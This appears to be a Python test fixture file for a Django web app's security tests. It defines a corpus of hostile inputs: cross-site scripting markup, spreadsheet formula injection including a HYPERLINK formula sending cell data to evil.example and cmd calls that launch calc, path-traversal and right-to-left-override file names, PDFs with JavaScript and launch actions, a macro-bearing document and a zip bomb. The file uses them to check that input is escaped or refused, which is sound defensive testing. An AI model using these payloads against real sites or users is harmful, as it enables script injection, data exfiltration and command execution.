"""The hostile corpus: what is typed and what is uploaded, and what each should come to.

Values are written out here, not taken from the code they test. A text value is either kept exactly
as typed (and shown escaped wherever it is shown) or refused with a message beside its field.
"""

import io
import zipfile
from dataclasses import dataclass

import pikepdf

from tests.pdfs import plain_pdf

# --- Typed text ---------------------------------------------------------------------------------
# Kept as typed, shown as text. A listener-free port (9, "discard") stands in for a server: the
# letters' tests put a listening one in instead.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "event handler": '<img src=x onerror="alert(1)">',
    "javascript url": '<a href="javascript:alert(1)">Open</a>',
    "attribute break-out": '"><svg onload=alert(1)>',
    "css url": '<p style="background:url(http://127.0.0.1:9/x.png)">x</p>',
    "css import": "<style>@import url(http://127.0.0.1:9/x.css);</style>",
    "file link": '<link rel="attachment" href="file:///etc/passwd">',
}
# Formula prefixes a spreadsheet would run. Leading tab and carriage return are whitespace: a field
# that trims (Django's default) keeps what follows them.
FORMULAS = {
    "formula =": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula carriage return": "\r=2+2",
}
ACCEPTED = MARKUP | FORMULAS

BIDI_MESSAGE = (
    "Remove the invisible formatting characters (such as text-direction marks) from this "
    "answer; they can change how the text around them reads."
)
CONTROL_MESSAGE = (
    "Remove the control characters from this answer; they cannot be seen or printed, and "
    "usually come from copying text out of another program."
)
REFUSED = {
    "right-to-left override": ("Acme\u202eCorp", BIDI_MESSAGE),
    "left-to-right isolate": ("Acme\u2066Corp", BIDI_MESSAGE),
    "right-to-left mark": ("Acme\u200fCorp", BIDI_MESSAGE),
    "NUL": ("Acme\x00Corp", CONTROL_MESSAGE),
    "bell": ("Acme\x07Corp", CONTROL_MESSAGE),
    "C1 next line": ("Acme\x85Corp", CONTROL_MESSAGE),
}

# What must never reach a page as markup: the start of each markup value.
RAW = {
    "script": "<script>alert(1)",
    "event handler": "<img src=x onerror",
    "javascript url": '<a href="javascript:',
    "attribute break-out": "<svg onload",
    "css url": '<p style="background',
    "css import": "<style>@import",
    "file link": '<link rel="attachment"',
}


def too_long(limit: int) -> str:
    return "a" * (limit + 1)


def too_long_message(limit: int) -> str:
    return f"must be {limit} characters or fewer"


@dataclass(frozen=True)
class Case:
    """Hostile text typed into every text field of a form. An accepted case with several values
    gives them to the fields in turn, or all of them joined (`combined`) where a field has room."""

    id: str
    kind: str  # "accepted", "refused", "too long" or "empty"
    values: tuple[str, ...] = ()
    message: str = ""
    combined: bool = False

    def typed(self, *, limit: int | None, index: int) -> str:
        if self.kind == "too long":
            return too_long(limit or 0)
        if self.kind == "empty":
            return ""
        joined = " ".join(self.values)
        if self.combined and (limit is None or limit >= len(joined)):
            return joined
        return self.values[index % len(self.values)]


# Every value of the corpus, each on its own: for the forms themselves (fast, no page).
FORM_CASES = (
    [Case(id=name, kind="accepted", values=(value,)) for name, value in ACCEPTED.items()]
    + [Case(id=name, kind="refused", values=(v,), message=m) for name, (v, m) in REFUSED.items()]
    + [Case(id="one over the limit", kind="too long"), Case(id="empty", kind="empty")]
)
# Through the pages: the same values, grouped so that one post carries several.
VIEW_CASES = [
    Case(id="markup and links", kind="accepted", values=tuple(MARKUP.values()), combined=True),
    Case(
        id="formulas",
        kind="accepted",
        values=tuple(FORMULAS[k] for k in ("formula =", "formula +", "formula -", "formula @")),
    ),
    Case(
        id="formulas after whitespace",
        kind="accepted",
        values=(FORMULAS["formula tab"], FORMULAS["formula carriage return"]),
    ),
    Case(
        id="bidi override",
        kind="refused",
        values=(REFUSED["right-to-left override"][0],),
        message=BIDI_MESSAGE,
    ),
    Case(id="NUL", kind="refused", values=(REFUSED["NUL"][0],), message=CONTROL_MESSAGE),
    Case(id="one over the limit", kind="too long"),
    Case(id="empty", kind="empty"),
]


def stored_form(value: str, *, keeps_space: bool) -> str:
    """What a field keeps of an accepted value: all of it, or (a field that trims) without the
    whitespace around it."""
    return value if keeps_space else value.strip()


# --- File names ---------------------------------------------------------------------------------
# (name sent, name shown): a name is only ever shown, sanitised; files are stored under random names.
FILE_NAMES = {
    "path traversal": ("../../etc/passwd.pdf", "passwd.pdf"),
    "windows path": ("..\\..\\Windows\\system32\\evidence.pdf", "evidence.pdf"),
    "NUL": ("report\x00.exe.pdf", "report.exe.pdf"),
    "right-to-left override": ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    "300 characters": ("n" * 296 + ".pdf", "n" * 146 + ".pdf"),
    "only dots": ("...", "evidence"),
    "dots then extension": ("....pdf", "evidence.pdf"),
    "windows reserved": ("CON.pdf", "CON.pdf"),
    "windows reserved with port": ("COM1.pdf", "COM1.pdf"),
    "trailing dot": ("report.pdf.", "report.pdf"),
    "markup": ('<img src=x onerror="alert(1)">.pdf', '<img src=x onerror="alert(1)">.pdf'),
    "formula": ("=1+cmd|'calc'!A0.pdf", "=1+cmd|'calc'!A0.pdf"),
}


# --- File contents ------------------------------------------------------------------------------
def pdf_with(build) -> bytes:
    """A one-page PDF changed by `build(document)`."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(612, 792))
    build(document)
    out = io.BytesIO()
    document.save(out, deterministic_id=True)
    return out.getvalue()


def _javascript(document) -> None:
    action = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    document.Root.OpenAction = action


def _launch(document) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    )


def _embedded_file(document) -> None:
    attachment = pikepdf.AttachedFileSpec(document, b"MZ payload", filename="payload.exe")
    document.attachments["payload.exe"] = attachment


def _page_action(document) -> None:
    page = document.pages[0].obj
    page.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)"))
    )


def _office(parts: dict[str, bytes], *, deflate: bool = True) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return _office(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"}
        | (extra or {})
    )


def xlsx(extra: dict[str, bytes] | None = None) -> bytes:
    return _office(
        {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"} | (extra or {})
    )


# 50 MB of zeros compress to about 50 KB: a thousand to one.
_BOMB = b"\0" * (50 * 1024 * 1024)

# (file name, content, words the message beside the field must hold)
REFUSED_FILES = {
    "svg renamed .pdf": (
        "chart.pdf",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        "“chart.pdf” is not a PDF: its content is plain text.",
    ),
    "html renamed .pdf": (
        "page.pdf",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "“page.pdf” is not a PDF: its content is plain text.",
    ),
    "executable renamed .pdf": (
        "setup.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",
        "“setup.pdf” is not a file type we accept.",
    ),
    "zip bomb as .docx": (
        "bomb.docx",
        docx({"word/media/zeros.bin": _BOMB}),
        "“bomb.docx” is compressed far more than a document normally is",
    ),
    "zip bomb as .xlsx": (
        "bomb.xlsx",
        xlsx({"xl/media/zeros.bin": _BOMB}),
        "“bomb.xlsx” is compressed far more than a document normally is",
    ),
    "macros in a .docx": (
        "macro.docx",
        docx({"word/vbaProject.bin": b"VBA"}),
        "“macro.docx” contains macros, which we do not accept.",
    ),
    "pdf with javascript": (
        "script.pdf",
        pdf_with(_javascript),
        "“script.pdf” contains JavaScript",
    ),
    "pdf with a launch action": (
        "launch.pdf",
        pdf_with(_launch),
        "“launch.pdf” contains",
    ),
    "pdf with an embedded file": (
        "attached.pdf",
        pdf_with(_embedded_file),
        "“attached.pdf” contains",
    ),
    "pdf with a page action": (
        "page-action.pdf",
        pdf_with(_page_action),
        "“page-action.pdf” contains",
    ),
    "damaged pdf": (
        "broken.pdf",
        b"%PDF-1.7\n1 0 obj <<",
        "“broken.pdf” could not be read as a PDF",
    ),
    "empty file": ("empty.pdf", b"", "The file you chose is empty"),
    "csv in windows-1252": (
        "ledger.csv",
        "Caf\u00e9,1\n".encode("cp1252"),
        "“ledger.csv” is not saved as UTF-8 text",
    ),
    "text with NUL": ("notes.txt", b"Entry\x00files", "“notes.txt” is not a file type we accept."),
}

PLAIN_PDF = plain_pdf()
